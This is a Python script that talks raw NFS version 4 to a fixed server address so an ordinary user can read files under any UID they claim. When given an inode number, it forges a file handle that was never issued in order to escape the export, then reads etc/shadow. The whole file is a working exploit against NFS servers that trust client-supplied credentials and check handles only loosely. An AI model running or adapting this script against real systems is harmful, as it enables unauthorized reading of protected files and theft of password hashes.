"""Reads a file from an NFS server as whoever it says it is, without the kernel's client, as a user's own program could.

Usage: nfs.py PORT UID PATH. PORT is the port to ask from: 0 is any above 1023, which every user may use. With
PATH@INODE, the handle of the directory PATH is changed to one of that number, which was never given out, and its files are
listed: what a share lets out that checks no more than that a handle belongs to its file system.
"""

import os
import socket
import struct
import sys

NAMES = {0: "OK", 1: "EPERM", 2: "ENOENT", 13: "EACCES", 70: "ESTALE", 10016: "WRONGSEC", 10001: "BADHANDLE"}
PUTROOTFH, PUTFH, LOOKUP, GETFH, READ, READDIR = 24, 22, 15, 10, 25, 26


def opaque(data):
    return struct.pack(">I", len(data)) + data + b"\0" * (-len(data) % 4)


def operation(number, arguments=b""):
    return struct.pack(">I", number) + arguments


def ask(port, uid, operations):
    """One COMPOUND of NFS 4.0; the status and what follows it."""
    client = socket.socket()
    client.settimeout(20)
    if port:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        client.bind(("", port))
    client.connect(("10.0.0.10", 2049))
    credentials = struct.pack(">I", 0) + opaque(b"node") + struct.pack(">III", uid, uid, 0)
    call = struct.pack(">IIIIII", os.getpid(), 0, 2, 100003, 4, 1) + struct.pack(">I", 1) + opaque(credentials) + \
        struct.pack(">II", 0, 0) + opaque(b"") + struct.pack(">II", 0, len(operations)) + b"".join(operations)
    client.sendall(struct.pack(">I", 0x80000000 | len(call)) + call)
    answer = b""
    while len(answer) < 4 or len(answer) < 4 + (struct.unpack(">I", answer[:4])[0] & 0x7FFFFFFF):
        part = client.recv(65536)
        if not part:
            sys.exit("closed")
        answer += part
    client.close()
    accepted = struct.unpack(">I", answer[12:16])[0]
    if accepted != 0:
        sys.exit("denied: " + str(struct.unpack(">II", answer[16:24])))
    return struct.unpack(">I", answer[28:32])[0], answer[32:]


port, uid, path = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
path, _, inode = path.partition("@")
walk = [operation(PUTROOTFH)] + [operation(LOOKUP, opaque(part.encode())) for part in path.split("/") if part]
if not inode:
    status, rest = ask(port, uid, walk + [operation(READ, b"\0" * 16 + struct.pack(">QI", 0, 4096))])
    print(NAMES.get(status, status), rest[-8:] if status == 0 else "")
else:
    status, rest = ask(port, uid, walk + [operation(GETFH)])
    if status != 0:
        sys.exit(NAMES.get(status, str(status)))
    # The tag, the count of results, and a number and a status of each before the last one.
    length = struct.unpack(">I", rest[8 + 8 * len(walk) + 8:][:4])[0]
    handle = rest[8 + 8 * len(walk) + 12:][:length]
    # Version, type of authentication, of the export's id and of the file's id; what names the export follows.
    export = handle[:4 + {0: 8, 1: 4, 2: 12, 3: 8, 4: 8, 5: 8, 6: 16, 7: 24}[handle[2]]]
    # Type 1 of a file's id is its number and its generation, which is 0 of a file system's root.
    forged = export[:3] + b"\x01" + export[4:] + struct.pack("<II", int(inode), 0)
    # The connection before still has the port.
    status, rest = ask(port + 100, uid, [operation(PUTFH, opaque(forged)), operation(LOOKUP, opaque(b"etc")), operation(LOOKUP, opaque(b"shadow")),
                                   operation(READ, b"\0" * 16 + struct.pack(">QI", 0, 4096))])
    print(NAMES.get(status, status))
